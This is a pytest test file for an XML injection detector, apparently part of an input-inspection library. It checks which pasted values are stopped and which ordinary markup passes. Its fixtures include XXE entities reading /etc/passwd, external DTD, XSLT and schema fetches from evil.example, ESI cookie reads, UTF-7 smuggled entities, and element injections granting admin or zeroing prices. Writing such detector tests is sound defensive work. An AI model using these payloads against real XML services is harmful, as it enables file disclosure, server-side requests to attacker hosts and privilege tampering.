"""Values that would add to the XML document that they are pasted into."""

from __future__ import annotations

import pytest
from tests.support.suspects import STOPS, Suspects

from vallum.inspection.detectors.xml import DETECTOR

SUSPECTS = Suspects(DETECTOR)


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>', "xml.entity"),
        ('<!DOCTYPE a SYSTEM "http://evil.example/a.dtd">', "xml.entity"),
        ('<!ENTITY % b SYSTEM "http://evil.example/">', "xml.entity"),
        ('<?xml version="1.0"?><!DOCTYPE a><a/>', "xml.entity"),
        ('<xi:include href="file:///etc/passwd" parse="text"/>', "xml.include"),
        ('<esi:include src="http://evil.example/"/>', "xml.include"),
        ("<esi:vars>$(HTTP_COOKIE)</esi:vars>", "xml.include"),
        ("x<!--esi <esi:debug/> -->", "xml.include"),
        ('<?xml-stylesheet href="http://evil.example/x.xsl"?>', "xml.transform"),
        ("<xsl:value-of select=\"document('x')\"/>", "xml.transform"),
        ('<a xsi:schemaLocation="x http://evil.example/x.xsd"/>', "xml.schema-location"),
        ('<xs:import schemaLocation="http://evil.example/x.xsd"/>', "xml.schema-location"),
        ('<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-', "xml.charset"),
        ("+ADw-!DOCTYPE a [+ADw-!ENTITY b SYSTEM +ACI-file:///c+ACI-+AD4-]+AD4-", "xml.entity"),
        ("x +ADwAIQ-ENTITY b SYSTEM +ACI-c+ACI-+AD4-", "xml.entity"),
        ("</name><role>admin</role><name>", "xml.element"),
        ("bob</user></item><item><price>0</price>", "xml.element"),
        ("</soap:Body></soap:Envelope>", "xml.element"),
        ('"/><role>admin</role><x a="', "xml.element"),
        ("]]></data><role>admin</role><data><![CDATA[", "xml.cdata"),
        ("<![CDATA[<]]>script<![CDATA[>]]>", "xml.cdata"),
        ("admin<!---->@evil.example", "xml.comment"),
        ("<soapenv:Envelope><soapenv:Body/></soapenv:Envelope>", "xml.envelope"),
    ],
)
def test_xml_in_a_value_is_stopped(text: str, rule: str) -> None:
    """The strongest judgement decides; what else is found must not hide it."""
    found = [each for _, each in SUSPECTS.judge(text) if each.score >= STOPS]
    assert found
    assert (
        rule in {each.rule for each in found} or max(found, key=lambda each: each.score).score > 7
    )


@pytest.mark.parametrize(
    "text",
    [
        "<p>Hello</p><p>World</p>",
        "</p><p>next",
        "</div><div class='a'><b>x</b>",
        "List<String> and Map<K, V>",
        "<name> and <role> are placeholders",
        "if a[b[0]]>1 then x",
        "x[y[i]]> <b>",
        "<!-- please fill in -->\n<!-- thanks -->",
        "<!DOCTYPE html><html><body>x</body></html>",
        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/x.dtd"><html/>',
        '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0"/></svg>',
        "<note><to>Tove</to><from>Jani</from></note>",
        "<esi> is short for Edge Side Includes",
        "<!-- esi and the like are read by caches -->",
        "<![CDATA[some text]]>",
        "#include <stdio.h>\n#include <x>",
    ],
)
def test_ordinary_markup_passes(text: str) -> None:
    assert SUSPECTS.score(text, "body") < STOPS


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ('7" discount="100', "xml.attribute"),
        ("tea' price='0' note='", "xml.attribute"),
        ('tea"/><order total="0" note="', "xml.element"),
        ('tea"><discount value="100"/><note text="', "xml.element"),
        ("tea --><discount>100</discount><!-- ", "xml.element"),
        ("<discount>100</discount><!--", "xml.element"),
        ("<owner>root<!---->.example</owner>", "xml.comment"),
        ("root@a.example<!--x-->", "xml.comment"),
        ("&secret;", "xml.reference"),
        ("<note>&secret;</note>", "xml.reference"),
        ("%remote; %run;", "xml.reference"),
        ('<w:import location="http://evil.example/a.wsdl"/>', "xml.include"),
        ('<dsig:RetrievalMethod URI="file:///etc/hosts"/>', "xml.include"),
        ('<svg><image href="mvg:/tmp/a"/></svg>', "xml.include"),
        ('<svg><text x:href="label:@/etc/hosts"/></svg>', "xml.include"),
        ('<redirect:write file="/tmp/a">b</redirect:write>', "xml.transform"),
        ("<methodCall>\n<methodName>demo.run</methodName></methodCall>", "xml.envelope"),
        ('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "ftp://evil.example/a">', "xml.entity"),
    ],
)
def test_parts_of_a_document_that_is_left_are_stopped(text: str, rule: str) -> None:
    assert rule in [each.rule for _, each in SUSPECTS.judge(text) if each.score >= STOPS]


@pytest.mark.parametrize(
    "text",
    [
        'Screen 24" colour="black"',
        'width="3" height="4"',
        'set name="Bob" and city="Rome" in the form',
        "it's colour='red'",
        "Settings --> <your name>",
        "graph: a --> b --> c",
        "Intro<!--more-->",
        "Intro<!--more-->Then",
        "<server> <!-- the main one --> <port>80<!-- default --></port></server>",
        "<p>Hello<!-- --> Bob</p>",
        "&copy;",
        "&NBSP;",
        "Fish &chips; peas",
        "<b>&eacute;</b>",
        "%d;%s;",
        "%lu;",
        "100 %; more",
        '<ds:Reference URI="#body"/>',
        '<a href="show:12">x</a>',
        "<methodCall> is how XML-RPC begins",
    ],
)
def test_quotes_arrows_and_entities_of_people_pass(text: str) -> None:
    assert SUSPECTS.score(text, "body") < STOPS


def test_a_text_of_nothing_but_attributes_is_judged() -> None:
    text = ("x\" a=\"b' c='d --><e>f<!--g--> &h; %i; " * 200)[:4096]
    assert SUSPECTS.score(text) <= 10
